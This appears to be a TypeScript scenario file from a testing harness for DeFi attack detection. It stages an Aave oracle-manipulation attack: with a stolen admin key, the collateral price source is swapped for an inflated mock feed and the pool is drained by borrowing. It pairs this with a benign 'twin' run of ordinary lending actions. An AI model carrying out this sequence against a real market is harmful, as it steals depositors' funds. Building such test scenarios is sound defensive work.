import { maxUint256 } from 'viem'
import { aaveMarket, units } from '../aaveMarket.ts'
import { readPackaged } from '../readPackaged.ts'
import type { Scenario } from '../scenario.ts'

const mock = 'artifacts/contracts/mocks/oracle/CLAggregators/MockAggregator.sol/MockAggregator.json'

export const aavePriceSource: Scenario = {
  name: 'aave-price-source',
  theme: 'dependency',
  attack:
    'With a stolen admin key the price source of the collateral is replaced by one that says a thousand times as much, and the dollars are borrowed.',
  twin: 'A large lender takes all of their dollars out, and a borrower repays and borrows again.',

  async build(stage) {
    const market = await aaveMarket(stage)
    const { pool, oracle, dollar, coin, lenders, borrowers, use } = market
    const thief = stage.accounts[20]!
    return {
      protect: [pool.address, oracle.address, dollar.aToken.address],
      victims: [pool.address, oracle.address, dollar.aToken.address, coin.aToken.address],
      ordinary: use,
      async attack() {
        const lie = await stage.deploy(readPackaged('@aave/core-v3', mock), {
          args: [2_000_000n * 10n ** 8n],
          from: thief,
        })
        await stage.call(coin.token, 'mint', [thief, units('10')])
        await stage.call(coin.token, 'approve', [pool.address, maxUint256], { from: thief })
        await stage.call(pool, 'supply', [coin.token.address, units('10'), thief, 0], { from: thief })
        await stage.call(oracle, 'setAssetSources', [[coin.token.address], [lie.address]])
        await stage.mine(2)
        await stage.call(pool, 'borrow', [dollar.token.address, units('2000000'), 2n, 0, thief], { from: thief })
      },
      async twin() {
        const [lender, borrower] = [lenders[4]!, borrowers[0]!]
        await stage.call(pool, 'withdraw', [dollar.token.address, maxUint256, lender], { from: lender })
        await stage.call(pool, 'repay', [dollar.token.address, maxUint256, 2n, borrower], { from: borrower })
        await stage.mine(4)
        await stage.call(pool, 'borrow', [dollar.token.address, units('95000'), 2n, 0, borrower], { from: borrower })
      },
    }
  },
}
